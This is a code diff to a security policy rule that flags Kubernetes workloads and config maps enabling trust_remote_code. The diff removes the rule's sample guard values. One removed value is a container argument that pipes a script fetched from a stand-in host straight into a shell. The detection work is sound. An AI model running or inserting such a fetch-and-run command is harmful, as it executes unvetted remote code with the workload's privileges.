@@ -5,8 +5,8 @@ from collections.abc import Iterator
 from typing import Any
 
 from policies.graph import UNKNOWN, Node
-from policies.rule import Case, Family, Finding, Guard, Requirement, Rule, Severity
-from policies.rules.kubernetes._pods import WORKLOADS, Container, container_guards, each_container
+from policies.rule import Case, Family, Finding, Requirement, Rule, Severity
+from policies.rules.kubernetes._pods import WORKLOADS, Container, each_container
 from policies.rules.supply._commands import (
     CONFIG_MAP,
     documents,
@@ -32,11 +32,6 @@ RULE = Rule(
     why="trust_remote_code runs whatever a model's repository holds, beside the customer's code and with its rights.",
     remedy="leave trust_remote_code off, and build what a container needs into its image",
     frameworks=FRAMEWORKS,
-    guards=(
-        Guard(type=CONFIG_MAP, path="data", values=({"engine.yaml": "trust_remote_code: true"},)),
-        *container_guards("args", values=(["--trust-remote-code"], ["-c", "curl https://get.example/i.sh | sh"])),
-        *container_guards("env", values=([{"name": "TRUST_REMOTE_CODE", "value": "true"}],)),
-    ),
 )
 
 
